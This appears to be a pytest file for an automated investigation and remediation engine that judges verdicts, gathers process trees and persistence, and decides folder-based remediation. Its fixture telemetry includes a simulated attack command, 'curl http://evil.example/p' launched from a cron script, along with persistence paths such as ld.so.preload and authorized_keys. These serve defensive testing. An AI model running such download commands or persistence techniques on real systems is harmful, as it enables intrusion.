"""The AIR engine: automation levels over Linux folders, verdicts per source, playbook steps, state, expansion."""

from __future__ import annotations

from collections.abc import Sequence
from datetime import UTC, datetime, timedelta
from typing import Any, ClassVar

import pytest

from vigil.air import (
    Entity,
    EntityKind,
    InvestigationState,
    RemediationDecision,
    Signals,
    Verdict,
    decide,
    judge,
    parse_level,
)
from vigil.air.evidence import Findings, Row, Seed
from vigil.air.playbook import STEPS, DuplicateStep, UnknownStep, gather, is_persistence_path
from vigil.air.remediation import EXPANSION_APPROVAL_DEVICES, Outcome, decision, expansion, propose, state_of
from vigil.core.groups import AutomationLevel

T0 = datetime(2026, 12, 7, 12, 0, tzinfo=UTC)


@pytest.mark.parametrize(("level", "path", "expected"), [
    (AutomationLevel.FULL, "/usr/bin/evil", RemediationDecision.RUN),
    (AutomationLevel.FULL, "/tmp/x.sh", RemediationDecision.RUN),
    (AutomationLevel.SEMI_ANY, "/tmp/x.sh", RemediationDecision.NEEDS_APPROVAL),
    (AutomationLevel.SEMI_CORE_FOLDERS, "/usr/bin/evil", RemediationDecision.NEEDS_APPROVAL),
    (AutomationLevel.SEMI_CORE_FOLDERS, "/lib64/evil.so", RemediationDecision.NEEDS_APPROVAL),
    (AutomationLevel.SEMI_CORE_FOLDERS, "/etc/cron.d/job", RemediationDecision.NEEDS_APPROVAL),
    (AutomationLevel.SEMI_CORE_FOLDERS, "/opt/app/evil", RemediationDecision.RUN),
    (AutomationLevel.SEMI_CORE_FOLDERS, "/tmp/x.sh", RemediationDecision.RUN),
    (AutomationLevel.SEMI_NON_TEMP_FOLDERS, "/tmp/x.sh", RemediationDecision.RUN),
    (AutomationLevel.SEMI_NON_TEMP_FOLDERS, "/dev/shm/x", RemediationDecision.RUN),
    (AutomationLevel.SEMI_NON_TEMP_FOLDERS, "/home/ann/Downloads/x", RemediationDecision.RUN),
    (AutomationLevel.SEMI_NON_TEMP_FOLDERS, "/home/ann/x", RemediationDecision.NEEDS_APPROVAL),
    (AutomationLevel.SEMI_NON_TEMP_FOLDERS, "/tmp/../etc/passwd", RemediationDecision.NEEDS_APPROVAL),
    (AutomationLevel.SEMI_NON_TEMP_FOLDERS, "/tmpfoo/x", RemediationDecision.NEEDS_APPROVAL),
    (AutomationLevel.NONE, "/tmp/x.sh", RemediationDecision.NOT_RUN),
])
def test_automation_levels_decide_by_folder(level: AutomationLevel, path: str, expected: RemediationDecision) -> None:
    assert decide(level, path) is expected


def test_levels_parse_defender_names_and_short_names() -> None:
    assert parse_level("Semi – require approval for core folders remediation") is AutomationLevel.SEMI_CORE_FOLDERS
    assert parse_level("full") is AutomationLevel.FULL and parse_level("NoRemediation") is AutomationLevel.NONE
    with pytest.raises(ValueError, match="semi-non-temp"):
        parse_level("mostly")


FILE = Entity(EntityKind.FILE, "file:d:/opt/x", "d", {"path": "/opt/x", "sha256": "a" * 64})
TEMP_FILE = Entity(EntityKind.FILE, "file:d:/tmp/x.sh", "d", {"path": "/tmp/x.sh"})


@pytest.mark.parametrize(("signals", "verdict", "source"), [
    (Signals(indicator_action="Block", indicator_title="bad"), Verdict.MALICIOUS, "Indicator"),
    (Signals(indicator_action="BlockAndRemediate", indicator_title="bad"), Verdict.MALICIOUS, "Indicator"),
    (Signals(indicator_action="Audit", indicator_title="watch"), Verdict.SUSPICIOUS, "Indicator"),
    (Signals(antivirus=("Virus:DOS/EICAR_Test_File",)), Verdict.MALICIOUS, "Antivirus"),
    (Signals(yara=("webshell_php",)), Verdict.MALICIOUS, "YARA"),
    (Signals(sigma=("Cron job runs a script",)), Verdict.SUSPICIOUS, "Sigma"),
    (Signals(devices_seen=1, fleet_size=40), Verdict.SUSPICIOUS, "Prevalence"),
    (Signals(), Verdict.CLEAN, None),
    (Signals(devices_seen=30, fleet_size=40), Verdict.CLEAN, None),
])
def test_each_source_gives_its_verdict_and_reason(signals: Signals, verdict: Verdict, source: str | None) -> None:
    v = judge(FILE, signals)
    assert v.verdict is verdict
    assert [r.source for r in v.reasons] == ([source] if source else [])


def test_two_suspicious_signals_make_malicious_and_say_why() -> None:
    v = judge(TEMP_FILE, Signals(sigma=("Cron job runs a script",)))
    assert v.verdict is Verdict.MALICIOUS
    assert {r.source for r in v.reasons} == {"Sigma", "Location", "Combined"}
    # A temp folder alone is context, not a finding.
    alone = judge(TEMP_FILE, Signals())
    assert alone.verdict is Verdict.CLEAN and [r.source for r in alone.reasons] == ["Location"]


def test_allowed_indicator_overrides_every_other_source() -> None:
    v = judge(TEMP_FILE, Signals(indicator_action="Allowed", indicator_title="our tool", antivirus=("X",),
                                 yara=("Y",), sigma=("Z",), devices_seen=1, fleet_size=100))
    assert v.verdict is Verdict.CLEAN
    assert len(v.reasons) == 1 and "Allowed" in v.reasons[0].text


def test_fleet_expansion_needs_approval_from_ten_devices() -> None:
    nine = expansion("origin", {"sha256:" + "a" * 64: ["origin", *(f"d{i}" for i in range(9))]})
    assert len(nine.device_ids) == 9 and not nine.needs_approval
    ten = expansion("origin", {"sha256:" + "a" * 64: [f"d{i}" for i in range(5)],
                               "ip:203.0.113.9": [f"d{i}" for i in range(3, EXPANSION_APPROVAL_DEVICES)]})
    assert len(ten.device_ids) == 10 and ten.needs_approval
    assert ten.why["d4"] == ("ip:203.0.113.9", "sha256:" + "a" * 64)


class _Rows:
    def __init__(self, tables: dict[str, list[dict[str, Any]]]) -> None:
        self.tables = tables

    def rows(self, table: str, device_id: str, start: datetime, end: datetime) -> Sequence[Row]:
        return [r for r in self.tables.get(table, []) if r["DeviceId"] == device_id and start <= r["Timestamp"] <= end]


def _proc(pid: int, ppid: int, path: str, cmd: str, parent_name: str = "", at: int = 0) -> dict[str, Any]:
    return {"DeviceId": "d", "Timestamp": T0 + timedelta(seconds=at), "ActionType": "ProcessCreated",
            "ProcessId": pid, "InitiatingProcessId": ppid, "FolderPath": path, "ProcessCommandLine": cmd,
            "ProcessCreationTime": (T0 + timedelta(seconds=at)).isoformat(), "AccountName": "root",
            "InitiatingProcessFileName": parent_name, "SHA256": ""}


def _source() -> _Rows:
    return _Rows({
        "DeviceProcessEvents": [
            _proc(100, 1, "/usr/sbin/cron", "/usr/sbin/cron -f", "systemd"),
            _proc(200, 100, "/usr/bin/dash", "/bin/sh -c /tmp/x.sh", "cron", 1),
            _proc(201, 200, "/usr/bin/dash", "/bin/sh /tmp/x.sh", "sh", 2),
            _proc(202, 201, "/usr/bin/curl", "curl http://evil.example/p", "sh", 3),
            _proc(300, 1, "/usr/bin/unrelated", "unrelated", "systemd", 3),
        ],
        "DeviceFileEvents": [
            {"DeviceId": "d", "Timestamp": T0, "ActionType": "FileCreated", "FolderPath": "/tmp/x.sh",
             "SHA256": "b" * 64, "InitiatingProcessId": 999},
            {"DeviceId": "d", "Timestamp": T0, "ActionType": "FileCreated", "FolderPath": "/etc/cron.d/job",
             "InitiatingProcessId": 999, "InitiatingProcessFolderPath": "/usr/bin/bash"},
        ],
        "DeviceNetworkEvents": [
            {"DeviceId": "d", "Timestamp": T0, "ActionType": "ConnectionSuccess", "RemoteIP": "203.0.113.9",
             "RemotePort": 80, "RemoteUrl": "evil.example", "InitiatingProcessId": 202,
             "InitiatingProcessCreationTime": (T0 + timedelta(seconds=3)).isoformat()},
        ],
        "DeviceLogonEvents": [
            {"DeviceId": "d", "Timestamp": T0, "ActionType": "LogonSuccess", "AccountName": "ann",
             "RemoteIP": "198.51.100.2"},
        ],
    })


def test_the_default_playbook_gathers_tree_files_persistence_peers_and_users() -> None:
    seed = Seed("d", T0 - timedelta(minutes=5), T0 + timedelta(minutes=5), ({"ProcessId": 201},))
    got = gather(_source(), seed)
    by_kind: dict[EntityKind, set[str]] = {}
    for e in got.entities:
        by_kind.setdefault(e.kind, set()).add(e.key)
    pids = {e.facts["pid"] for e in got.entities if e.kind is EntityKind.PROCESS}
    assert pids == {100, 200, 201, 202}  # ancestors and descendants, not the unrelated process
    files = {e.path: e for e in got.entities if e.kind is EntityKind.FILE}
    assert files["/tmp/x.sh"].sha256 == "b" * 64 and files["/tmp/x.sh"].facts["role"] == "script"
    persistence = [e for e in got.entities if e.kind is EntityKind.PERSISTENCE]
    assert {e.facts["mechanism"] for e in persistence} == {"cron"}
    assert any(e.path == "/etc/cron.d/job" for e in persistence)
    assert "ip:203.0.113.9" in by_kind[EntityKind.IP] and "domain:evil.example" in by_kind[EntityKind.DOMAIN]
    curl = next(e for e in got.entities if e.kind is EntityKind.PROCESS and e.facts["pid"] == 202)
    assert next(e for e in got.entities if e.key == "ip:203.0.113.9").parents == (curl.key,)
    assert by_kind[EntityKind.USER] == {"user:d:root", "user:d:ann"}
    assert len(got.log) == 5


def test_by_hand_device_investigation_seeds_on_temp_folder_processes() -> None:
    got = gather(_source(), Seed("d", T0 - timedelta(minutes=5), T0 + timedelta(minutes=5)))
    assert 300 not in {e.facts.get("pid") for e in got.entities}
    assert 201 in {e.facts.get("pid") for e in got.entities}


def test_steps_registry_refuses_duplicates_and_unknown_names() -> None:
    class Again:
        name: ClassVar[str] = "Files"

        def run(self, source: Any, findings: Findings) -> None: ...

    with pytest.raises(DuplicateStep):
        STEPS.register("Files", Again)
    with pytest.raises(UnknownStep, match="ProcessTree"):
        gather(_source(), Seed("d", T0, T0), ["ProcessTree", "Nope"])


def test_only_an_interpreters_script_operand_counts_as_a_script() -> None:
    from vigil.air.playbook import _scripts

    assert _scripts("/bin/sh /tmp/x.sh arg") == ["/tmp/x.sh"]
    assert _scripts("python3 -u /home/ann/run.py") == ["/home/ann/run.py"]
    assert _scripts("bash -c 'cat /tmp/x > /tmp/y'") == []
    assert _scripts("cp /tmp/a /tmp/b") == []
    assert _scripts("sh /usr/lib/helper.sh") == []


def test_persistence_paths() -> None:
    assert is_persistence_path("/home/ann/.ssh/authorized_keys")
    assert is_persistence_path("/etc/ld.so.preload") and is_persistence_path("/var/spool/cron/crontabs/root")
    assert not is_persistence_path("/etc/passwd")


def test_proposals_quarantine_files_and_kill_only_malicious_processes() -> None:
    proc = Entity(EntityKind.PROCESS, "p", "d", {"pid": 201, "created": T0.isoformat(), "path": "/usr/bin/dash"})
    verdicts = {TEMP_FILE.key: judge(TEMP_FILE, Signals(sigma=("s",))), "p": judge(proc, Signals(sigma=("s",)))}
    plan = propose([TEMP_FILE, proc], verdicts)
    assert [(r.kind.value, r.target_path) for r in plan] == [("QuarantineFile", "/tmp/x.sh")]
    # A suspicious entity's remediation waits for approval even under Full.
    sus = judge(FILE, Signals(sigma=("s",)))
    r = propose([FILE], {FILE.key: sus})[0]
    assert decision(AutomationLevel.FULL, r, sus.verdict) is RemediationDecision.NEEDS_APPROVAL


@pytest.mark.parametrize(("outcomes", "state"), [
    ([Outcome.SUCCEEDED, Outcome.SUCCEEDED], InvestigationState.REMEDIATED),
    ([Outcome.SUCCEEDED, Outcome.PENDING_APPROVAL], InvestigationState.PENDING_APPROVAL),
    ([Outcome.SUCCEEDED, Outcome.RUNNING], InvestigationState.RUNNING),
    ([Outcome.SUCCEEDED, Outcome.REJECTED], InvestigationState.PARTIALLY_REMEDIATED),
    ([Outcome.FAILED], InvestigationState.FAILED),
    ([Outcome.NOT_RUN], InvestigationState.TERMINATED_BY_SYSTEM),
])
def test_state_from_outcomes(outcomes: list[Outcome], state: InvestigationState) -> None:
    bad = judge(TEMP_FILE, Signals(sigma=("s",)))
    assert state_of([bad], outcomes) is state
    assert state_of([judge(FILE, Signals())], outcomes) is InvestigationState.NO_THREATS_FOUND
